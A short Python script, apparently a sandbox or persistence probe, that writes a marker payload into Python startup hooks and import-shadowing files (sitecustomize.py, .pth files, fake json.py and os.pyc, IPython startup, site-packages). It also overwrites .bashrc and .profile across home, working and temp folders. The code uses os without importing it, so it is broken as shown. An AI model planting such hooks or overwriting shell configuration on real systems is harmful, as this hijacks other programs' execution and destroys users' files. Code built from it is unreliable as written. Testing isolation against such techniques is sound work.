"""Plants code where another interpreter might pick it up."""
import glob, site, sysconfig

evil = "open('/tmp/planted', 'w').close(); print('PLANTED')\n"
planted = 0
folders = [os.getcwd(), os.path.expanduser("~"), "/tmp", "/dev/shm", "working", site.getusersitepackages(),
           os.path.expanduser("~/.config/matplotlib"), os.path.expanduser("~/.ipython/profile_default/startup"),
           sysconfig.get_paths()["purelib"], "input", os.path.dirname(os.__file__) + "/__pycache__"]
for folder in folders:
    for name in ["sitecustomize.py", "usercustomize.py", "json.py", "zz.pth", "os.pyc", ".pythonrc.py", ".bashrc", ".profile"]:
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as file:
                file.write(("import sys; exec(%r)\n" % evil) if name.endswith(".pth") else evil)
            planted += 1
        except OSError:
            pass
print("planted", planted)
